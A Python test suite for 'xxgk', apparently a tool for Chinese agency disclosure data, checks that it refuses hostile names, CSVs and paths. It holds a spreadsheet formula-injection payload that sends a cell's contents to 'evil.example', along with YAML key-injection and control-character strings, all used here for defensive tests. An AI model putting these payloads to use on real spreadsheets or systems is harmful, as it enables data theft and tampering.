"""Hostile names, new files and tidy CSVs: refused with a clear message, ``params/`` untouched.

Each test runs ``xxgk`` as a user would and checks what the user notices: the exit code, a message
that names the file, line and field (with an escaped excerpt of the bad value, never a traceback),
and that every file under ``params/`` is byte-identical afterwards (``tree_digest``).
"""

from __future__ import annotations

import csv
import io
import os
import resource
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from tests.conftest import tree_digest
from xxgk import cli, formats
from xxgk.data import model, paramfile, synthetic
from xxgk.data.diagnostics import InputError
from xxgk.data.model import Agency, Amount
from xxgk.data.yamlfile import parse_agency, parse_year
from xxgk.exchange import tidy

HEADER = ",".join(tidy.COLUMNS)
INJECTED = "注入镇\npublished: 1999-01-01"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
XXGK = Path(sys.executable).parent / "xxgk"

# One of each kind of character a name may not hold, with the code point the message names.
FORBIDDEN = {
    "\n": "U+000A",
    "\r": "U+000D",
    "\t": "U+0009",
    "\x00": "U+0000",
    "\x1b": "U+001B",
    "\x7f": "U+007F",
    "\x85": "U+0085",
    "\u2028": "U+2028",
    "\u2029": "U+2029",
    "\u202e": "U+202E",
    "\u2067": "U+2067",
    "\udcff": "U+DCFF",  # a byte of the command line that was no UTF-8
}


def cli_exit(*argv: object) -> int:
    """Run ``xxgk`` where argparse itself refuses the command line (it exits with SystemExit)."""
    with pytest.raises(SystemExit) as info:
        cli.main([str(a) for a in argv])
    return int(info.value.code or 0)


def write_csv(path: Path, records: list[list[str]]) -> Path:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(tidy.COLUMNS)
    w.writerows(records)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def body_records(
    params: Path, run_cli, tmp_path: Path, agency: str = "shiqiao-town", year: int = 2024
) -> list[list[str]]:
    """The tidy CSV records of one agency-year of the examples, as ``xxgk export`` writes them."""
    out = tmp_path / "export.csv"
    code, _, _ = run_cli("export", "--params", params, "-o", out)
    assert code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))[1:]
    return [r for r in rows if r[0] == agency and r[2] == str(year)]


def as_new_body(records: list[list[str]], agency_id: str, name: str) -> list[list[str]]:
    return [[agency_id, name, *r[2:]] for r in records]


def one_line_messages(err: str) -> None:
    """Every line of stderr is one complete message: no value broke a line, no traceback."""
    assert "Traceback" not in err
    for line in err.splitlines():
        assert len(line) < 600, line


# --- 1. a name is data: it cannot add a key ------------------------------------------------------


@pytest.mark.parametrize(("char", "code_point"), FORBIDDEN.items(), ids=[f"U+{ord(c):04X}" for c in FORBIDDEN])
def test_new_refuses_a_control_character_in_the_name(params: Path, run_cli, char: str, code_point: str) -> None:
    before = tree_digest(params)
    code, _, err = run_cli("new", "shiqiao-x", "2024", "--params", params, "--name", f"注入镇{char}published: 1999")
    assert code == 2
    assert "--name" in err and "机关名称" in err and code_point in err
    one_line_messages(err)
    assert tree_digest(params) == before and not (params / "shiqiao-x").exists()


def test_the_injection_of_the_issue_adds_no_key(params: Path, run_cli) -> None:
    """``xxgk new … --name $'注入镇\\npublished: 1999-01-01'`` wrote a live key that check accepted."""
    code, _, err = run_cli("new", "shiqiao-x", "2024", "--params", params, "--name", INJECTED)
    assert code == 2 and "换行符" in err
    code, _, err = run_cli("check", "--params", params)
    assert code == 0, err


@pytest.mark.parametrize(
    ("option", "value", "expected"),
    [
        ("--parent", "青山县\n人民政府", "U+000A"),
        ("--parent", "青山县\u202e府政民人", "双向文字控制符"),
        ("--parent", " 青山县人民政府", "首尾不能有空白字符"),
        ("--level", "乡镇\t", "U+0009"),
        ("--level", "不存在的级别", "行政级别应为"),  # was a pydantic traceback
        ("--name", "   ", "不能为空"),
        ("--name", "甲" * 10_000, "过长"),
    ],
    ids=["parent-newline", "parent-bidi", "parent-space", "level-tab", "level-unknown", "name-blank", "name-10000"],
)
def test_new_refuses_bad_level_parent_and_names(params: Path, run_cli, option: str, value: str, expected: str) -> None:
    before = tree_digest(params)
    argv = ["new", "new-body", "2024", "--params", params, "--name", "新区文化局", option, value]
    code, _, err = run_cli(*argv)
    assert code == 2 and option in err and expected in err
    one_line_messages(err)
    assert tree_digest(params) == before


def test_import_refuses_a_new_body_whose_name_holds_a_newline(params: Path, run_cli, tmp_path: Path) -> None:
    records = as_new_body(body_records(params, run_cli, tmp_path), "shiqiao-x", INJECTED)
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2
    assert "in.csv:2:" in err and "agency_name" in err and "U+000A" in err and "\\n" in err
    one_line_messages(err)
    assert tree_digest(params) == before


def test_import_refuses_a_control_character_in_the_name_of_an_existing_body(
    params: Path, run_cli, tmp_path: Path
) -> None:
    records = body_records(params, run_cli, tmp_path)
    records[3][1] = "石桥镇人民政府\x1b[31m"
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and "in.csv:5:" in err and "U+001B" in err and "\x1b" not in err
    assert tree_digest(params) == before


@pytest.mark.parametrize("name", ['"注入镇\\npublished: 1999-01-01"', '"石桥镇\\u202e府政民人"', '"\\t石桥镇"'])
def test_reading_agency_yaml_refuses_a_control_character(params: Path, run_cli, name: str) -> None:
    path = params / "shiqiao-town" / "agency.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("石桥镇人民政府", name, 1), encoding="utf-8")
    code, _, err = run_cli("check", params / "shiqiao-town")
    assert code == 2 and "agency.yaml" in err and "name" in err and "机关名称" in err


def test_year_file_header_holds_no_name(params: Path, run_cli) -> None:
    """The comments of a new data file are ours, from the format: the name lives in agency.yaml only."""
    code, _, _ = run_cli("new", "new-body", "2024", "--params", params, "--name", "新区 # 文化局")
    assert code == 0
    text = (params / "new-body" / "2024.yaml").read_text(encoding="utf-8")
    assert "新区" not in text
    assert yaml.safe_load((params / "new-body" / "agency.yaml").read_text(encoding="utf-8"))["name"] == "新区 # 文化局"


_ANY_TEXT = st.text(st.characters(codec="utf-8"), min_size=1, max_size=40)
_TRICKY = ["null", "~", "yes", "'=x", "a: b", "- x", "#x", "x # y", "&a", "*a", "!x", "\ufeffx", "{a: 1}", INJECTED]


@pytest.mark.slow
@settings(max_examples=200, deadline=None)
@given(name=_ANY_TEXT | st.sampled_from([*_TRICKY, *(f"甲{c}乙" for c in FORBIDDEN if c != "\udcff")]))
def test_every_name_is_refused_or_reads_back_as_itself(name: str) -> None:
    """For any text, agency.yaml written with it (as the name, or as the parent) holds the same
    three keys with the text exactly as given; then the validator refuses it, or it reads back as
    itself. A year file's keys are not changed by a name either."""
    refused = model.name_problem(name, model.AGENCY_NAME) is not None
    path = Path("params/any-body/agency.yaml")
    for agency, field in (
        (Agency("any-body", name, "乡镇", None, Path()), "name"),
        (Agency("any-body", "某镇人民政府", None, name, Path()), "parent"),
    ):
        text = paramfile.dump_agency(agency)
        loaded = yaml.safe_load(text)
        assert loaded == {"name": agency.name, "level": agency.level, "parent": agency.parent}
        if refused:
            with pytest.raises(InputError, match=f"{field}："):
                parse_agency(text, path, agency.id)
            continue
        back = parse_agency(text, path, agency.id)
        assert (back.name, back.level, back.parent) == (agency.name, agency.level, agency.parent)
        assert set(yaml.safe_load(text)) == {"name", "level", "parent"}
    if refused:
        return
    body = Agency("any-body", name, "乡镇", None, Path())
    (ay,) = synthetic.series(body, range(2024, 2025), seed=1)  # its narrative cites the name
    year_text = paramfile.dump_year(ay)
    assert set(yaml.safe_load(year_text)) == {"published", "tables", "narrative"}
    assert parse_year(year_text, Path("params/any-body/2024.yaml"), body, 2024).narrative == ay.narrative


# --- 2. formula injection ------------------------------------------------------------------------


def _tree(root: Path, name: str, negative_amount: bool = False) -> Path:
    """One body with a 2019 year (its 本年增/减 column is signed, one cell an amount) and a 2021 year."""
    agency = Agency("formula-body", name, "县级", None, Path())
    d = root / agency.id
    d.mkdir(parents=True)
    (d / "agency.yaml").write_text(paramfile.dump_agency(agency), encoding="utf-8")
    years = synthetic.series(agency, range(2020, 2022), seed=3)
    t2 = years[0].tables["t2"]
    signed = [(r, c) for r, cs in t2.items() for c in cs if years[0].format.cell("t2", r, c).kind == "signed"]
    row, col = signed[0]
    t2[row][col] = -3
    if negative_amount:
        r, c, v = next((r, c, v) for r, cs in t2.items() for c, v in cs.items() if isinstance(v, Amount))
        t2[r][c] = Amount(-v.value - 5, v.unit)
    for ay in years:
        (d / f"{ay.year}.yaml").write_text(paramfile.dump_year(ay), encoding="utf-8")
    return root


def test_export_neutralises_formulas_and_keeps_negative_numbers(tmp_path: Path, run_cli) -> None:
    root = _tree(tmp_path / "params", FORMULA, negative_amount=True)
    out = tmp_path / "out.csv"
    code, _, _ = run_cli("export", "--params", root, "-o", out)
    assert code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))[1:]
    assert {r[1] for r in rows} == {"'" + FORMULA}
    for r in rows:  # no text cell a spreadsheet would run
        assert all(cell[:1] not in tidy.FORMULA_START for cell in r[:6]), r
        assert r[6][:1] not in tidy.FORMULA_START or r[6].lstrip("-").replace(".", "", 1).isdigit(), r
    values = [r[6] for r in rows]
    assert "-3" in values and "'-3" not in values
    assert any(v.startswith("'-") and v.endswith("元") for v in values)  # an amount is text: neutralised
    # and back: import restores exactly the name
    fresh = tmp_path / "fresh"
    code, _, err = run_cli("import", "--params", fresh, out)
    assert code == 0, err
    assert yaml.safe_load((fresh / "formula-body" / "agency.yaml").read_text(encoding="utf-8"))["name"] == FORMULA


_PREFIXES = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''+", "'-", "=-", "@'"])
_NAME_TAIL = st.text(st.characters(codec="utf-8"), max_size=20)


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=_PREFIXES, tail=_NAME_TAIL)
def test_export_import_export_is_byte_identical_for_any_name(run_cli, prefix: str, tail: str) -> None:
    name = prefix + tail
    assume(model.name_problem(name, model.AGENCY_NAME) is None)
    with tempfile.TemporaryDirectory() as tmp:
        root = _tree(Path(tmp) / "params", name, negative_amount=True)
        first, second = Path(tmp) / "1.csv", Path(tmp) / "2.csv"
        assert run_cli("export", "--params", root, "-o", first)[0] == 0
        code, _, err = run_cli("import", "--params", Path(tmp) / "fresh", first)
        assert code == 0, err
        assert run_cli("export", "--params", Path(tmp) / "fresh", "-o", second)[0] == 0
        assert second.read_bytes() == first.read_bytes()
        assert (
            parse_agency(
                (Path(tmp) / "fresh" / "formula-body" / "agency.yaml").read_text(encoding="utf-8"),
                Path("agency.yaml"),
                "formula-body",
            ).name
            == name
        )


def test_import_reads_a_cell_neutralised_by_hand(params: Path, run_cli, tmp_path: Path) -> None:
    """A value someone protected with a quote (``'-3``) is the number; a quote before text stays."""
    records = body_records(params, run_cli, tmp_path)
    records[0][6] = "'-0"  # as a spreadsheet user protects a value: the number 0
    records[1][1] = "'石桥镇人民政府"  # no neutralised formula: kept as written, so it differs
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 0, err
    assert "in.csv:3:" in err and "'石桥镇人民政府" in err and "不同" in err
    assert tree_digest(params) == before  # the same values: nothing to write


# --- 3. numbers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "digits"),
    [("9" * 5000, "5000"), ("1" + "0" * 20, "21"), ("1." + "0" * 5000, "5001"), ("-" + "9" * 16, "16")],
    ids=["5000-digits", "10**20", "5000-decimals", "16-digits-negative"],
)
def test_import_refuses_numbers_with_too_many_digits(
    params: Path, run_cli, tmp_path: Path, value: str, digits: str
) -> None:
    records = body_records(params, run_cli, tmp_path)
    records[20][6] = value
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2
    assert "in.csv:22:" in err and f"共 {digits} 位" in err and f"{records[20][4]} / {records[20][5]}" in err
    one_line_messages(err)
    assert tree_digest(params) == before


def test_fifteen_digits_are_still_a_number(params: Path, run_cli, tmp_path: Path) -> None:
    records = body_records(params, run_cli, tmp_path)
    records[20][6] = "9" * 15
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 0, err
    assert "9" * 15 in (params / "shiqiao-town" / "2024.yaml").read_text(encoding="utf-8")


# --- 4. symbolic links -----------------------------------------------------------------------------


def test_import_refuses_a_symlinked_agency_folder(params: Path, run_cli, tmp_path: Path) -> None:
    records = as_new_body(body_records(params, run_cli, tmp_path), "linked-body", "链接镇人民政府")
    outside = tmp_path / "outside"
    outside.mkdir()
    (params / "linked-body").symlink_to(outside, target_is_directory=True)
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and str(params / "linked-body") in err and "符号链接" in err
    assert list(outside.iterdir()) == [] and tree_digest(params) == before


def test_import_refuses_a_symlinked_year_file(params: Path, run_cli, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    records = body_records(params, run_cli, tmp_path)
    records[0][6] = str(int(records[0][6]) + 1)
    year = params / "shiqiao-town" / "2024.yaml"
    shutil.move(year, outside / "2024.yaml")
    year.symlink_to(outside / "2024.yaml")
    target = (outside / "2024.yaml").read_bytes()
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and str(year) in err and "符号链接" in err
    assert year.is_symlink() and (outside / "2024.yaml").read_bytes() == target


def test_new_refuses_a_symlinked_agency_folder(params: Path, run_cli, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (params / "linked-body").symlink_to(outside, target_is_directory=True)
    code, _, err = run_cli("new", "linked-body", "2024", "--params", params, "--name", "链接镇人民政府")
    assert code == 2 and str(params / "linked-body") in err and "符号链接" in err
    assert list(outside.iterdir()) == []


# --- 5. ids and years ------------------------------------------------------------------------------


def test_a_300_character_id_is_refused_like_any_bad_id(params: Path, run_cli, tmp_path: Path) -> None:
    long_id = "a" * 300
    before = tree_digest(params)
    code, _, err = run_cli("new", long_id, "2024", "--params", params, "--name", "长标识局")
    assert code == 2 and "最长 64 个字符" in err and "File name too long" not in err
    one_line_messages(err)
    records = as_new_body(body_records(params, run_cli, tmp_path), long_id, "长标识局")
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and "最长 64 个字符" in err
    assert tree_digest(params) == before
    code, _, _ = run_cli("new", "b" * 64, "2024", "--params", params, "--name", "长标识局")
    assert code == 0


@pytest.mark.parametrize(
    "argv",
    [
        ["new", "shiqiao-town", "99999"],
        ["new", "shiqiao-town", "-5"],
        ["new", "shiqiao-town", "2018"],
        ["new", "new-body", "0", "--name", "甲"],
        ["render", "shiqiao-town", "2018"],
        ["render", "shiqiao-town", "10000"],
        ["build", "--year", "99999"],
        ["verify", "--year", "1990"],
    ],
)
def test_a_year_outside_the_formats_is_refused_on_the_command_line(
    params: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    before = tree_digest(params)
    code = cli_exit(*argv, "--params", params)
    err = capsys.readouterr().err
    assert code == 2 and "超出范围：应为 2019 至 9999 年" in err and "Traceback" not in err
    assert tree_digest(params) == before


@pytest.mark.parametrize("year", ["0000", "2018", "1990"])
def test_import_refuses_a_year_outside_the_formats(params: Path, run_cli, tmp_path: Path, year: str) -> None:
    records = body_records(params, run_cli, tmp_path)
    records[0][2] = year
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and "in.csv:2:" in err and f"报告年度 {int(year)} 超出范围" in err
    assert tree_digest(params) == before


def test_reading_a_data_file_of_a_year_before_the_formats_is_refused(params: Path, run_cli) -> None:
    """Even when the file names its format version, 2018.yaml is no report year."""
    body = params / "shiqiao-town"
    (body / "2018.yaml").write_text('format: "2019"\n' + (body / "2019.yaml").read_text(encoding="utf-8"))
    code, _, err = run_cli("check", body / "2018.yaml")
    assert code == 2 and "2018.yaml" in err and "报告年度 2018 超出范围" in err


# --- 6. more hostile input -------------------------------------------------------------------------


def test_csv_with_a_nul_byte_is_refused(params: Path, run_cli, tmp_path: Path) -> None:
    records = as_new_body(body_records(params, run_cli, tmp_path), "nul-body", "空字符\x00镇")
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and "in.csv:2:" in err and "空字符（NUL）" in err
    assert tree_digest(params) == before


def test_utf16_csv_is_named_as_such(params: Path, run_cli, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "in.csv", body_records(params, run_cli, tmp_path))
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, path)
    assert code == 2 and "UTF-16" in err
    assert tree_digest(params) == before


def test_a_1_gb_csv_is_refused_before_it_is_read(params: Path, tmp_path: Path) -> None:
    """A sparse 1 GiB file under a 1 GiB address-space cap: reading it whole would fail with MemoryError."""
    path = tmp_path / "huge.csv"
    with path.open("wb") as f:
        f.write((HEADER + "\n").encode())
        f.truncate(1 << 30)
    before = tree_digest(params)

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    proc = subprocess.run(
        [str(XXGK), "import", "--params", str(params), str(path)],
        capture_output=True,
        text=True,
        preexec_fn=cap,
        timeout=120,
        env={**os.environ, "PYTHONUTF8": "1"},
    )
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "文件过大" in proc.stderr and "Traceback" not in proc.stderr
    assert tree_digest(params) == before


def test_header_only_csv_imports_nothing_and_says_so(params: Path, run_cli, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text(HEADER + "\n", encoding="utf-8")
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, path)
    assert code == 0 and "文件中没有数据" in err
    assert tree_digest(params) == before


def test_a_label_with_an_embedded_newline_is_named_escaped(params: Path, run_cli, tmp_path: Path) -> None:
    records = body_records(params, run_cli, tmp_path)
    i = next(i for i, r in enumerate(records) if r[3] == "三")
    records[i][4] = records[i][4][:3] + "\n" + records[i][4][3:]
    path = write_csv(tmp_path / "in.csv", records)
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, path)
    assert code == 2 and f"in.csv:{i + 2}:" in err and "\\n" in err and "最接近的官方标签" in err
    one_line_messages(err)
    assert tree_digest(params) == before


def test_a_field_of_200_000_characters_is_named(params: Path, run_cli, tmp_path: Path) -> None:
    records = body_records(params, run_cli, tmp_path)
    records[2][4] = "（一）" * 100_000
    before = tree_digest(params)
    code, _, err = run_cli("import", "--params", params, write_csv(tmp_path / "in.csv", records))
    assert code == 2 and "in.csv:4:" in err and "有字段超过 131072 个字符" in err
    one_line_messages(err)
    assert tree_digest(params) == before


def test_new_with_an_invalid_agency_yaml_changes_nothing(params: Path, run_cli) -> None:
    path = params / "shiqiao-town" / "agency.yaml"
    path.write_text("name: [\n", encoding="utf-8")
    before = tree_digest(params)
    code, _, err = run_cli("new", "shiqiao-town", "2025", "--params", params)
    assert code == 2 and "agency.yaml:" in err and "YAML" in err
    assert tree_digest(params) == before


def test_new_writes_nothing_when_last_year_is_unreadable(params: Path, run_cli) -> None:
    """The year file and a new agency.yaml are both made before either is written."""
    body = params / "half-body"
    body.mkdir()
    (body / "2023.yaml").write_text("tables: [\n", encoding="utf-8")
    before = tree_digest(params)
    code, _, err = run_cli("new", "half-body", "2024", "--params", params, "--name", "半途局")
    assert code == 2 and "2023.yaml" in err
    assert tree_digest(params) == before and not (body / "agency.yaml").exists()


def test_new_where_the_agency_folder_is_a_file(params: Path, run_cli) -> None:
    (params / "plain-file").write_text("", encoding="utf-8")
    code, _, err = run_cli("new", "plain-file", "2024", "--params", params, "--name", "文件局")
    assert code == 2 and "不是目录" in err and "Traceback" not in err


def test_new_says_when_name_options_are_not_used(params: Path, run_cli) -> None:
    before = (params / "shiqiao-town" / "agency.yaml").read_bytes()
    code, _, err = run_cli("new", "shiqiao-town", "2025", "--params", params, "--name", "别的名称")
    assert code == 0 and "--name 未使用" in err
    assert (params / "shiqiao-town" / "agency.yaml").read_bytes() == before


def test_report_years_are_one_range_from_the_formats() -> None:
    years = formats.report_years()
    assert (years.start, years.stop - 1) == (min(v.first_year for v in formats.versions().values()), 9999)
    for bad in (-5, 2018, 10_000, 99_999):
        with pytest.raises(ValueError, match="超出范围"):
            formats.check_report_year(bad)
